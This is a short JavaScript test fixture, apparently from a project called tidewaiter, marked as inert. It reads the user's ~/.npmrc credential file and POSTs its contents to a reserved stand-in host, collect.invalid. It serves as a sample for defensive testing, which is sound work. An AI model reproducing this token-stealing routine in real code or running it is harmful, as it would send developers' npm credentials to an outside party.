// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import { readFile } from "fs";
import { homedir } from "os";

readFile(`${homedir()}/.npmrc`, "utf8", (err, data) => {
  if (err) return;
  fetch("https://collect.invalid/r", { method: "POST", body: data });
});
